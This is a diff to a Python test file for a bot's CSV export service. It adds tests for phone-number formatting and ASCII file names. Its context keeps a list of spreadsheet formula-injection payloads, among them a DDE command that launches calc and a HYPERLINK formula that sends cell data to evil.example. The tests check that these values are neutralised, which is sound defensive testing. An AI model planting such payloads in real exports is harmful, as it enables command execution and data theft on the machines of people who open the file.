@@ -6,7 +6,7 @@ from decimal import Decimal
 
 import pytest
 
-from bot.services.exports import cell, csv_bytes
+from bot.services.exports import Phone, cell, csv_bytes, file_name
 
 HOSTILE = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")', "+1", "@SUM(A1:A9)",
            "\t=1", "\r=1", "-2+3", "=1+1", "+84912345678"]
@@ -35,3 +35,14 @@ def test_a_csv_of_hostile_cells_reads_back_neutralised() -> None:
     assert [r[0] for r in rows[1:-1]] == ["'" + t for t in HOSTILE]
     assert all(r[1:] == ["7", "12.5"] for r in rows[1:-1])
     assert rows[-1] == ["", "", ""]
+
+
+@pytest.mark.parametrize(("phone", "shown"), [("0912 345 678", "0912 345 678"), ("0912345678", "0912 345 678"),
+                                              ("02963852123", "0296 385 2123"), ("+84912345678", "'+84912345678")])
+def test_phones_stay_text_to_a_spreadsheet(phone: str, shown: str) -> None:
+    assert cell(Phone(phone)) == shown
+
+
+def test_file_names_say_what_they_hold_in_plain_ascii() -> None:
+    assert file_name("nhu cầu", "Đã duyệt (đưa vào đề án/kế hoạch)", "Phường Long Xuyên", "2026-03-02") == (
+        "nhu-cau_da-duyet-dua-vao-de-an-ke-hoach_phuong-long-xuyen_2026-03-02.csv")
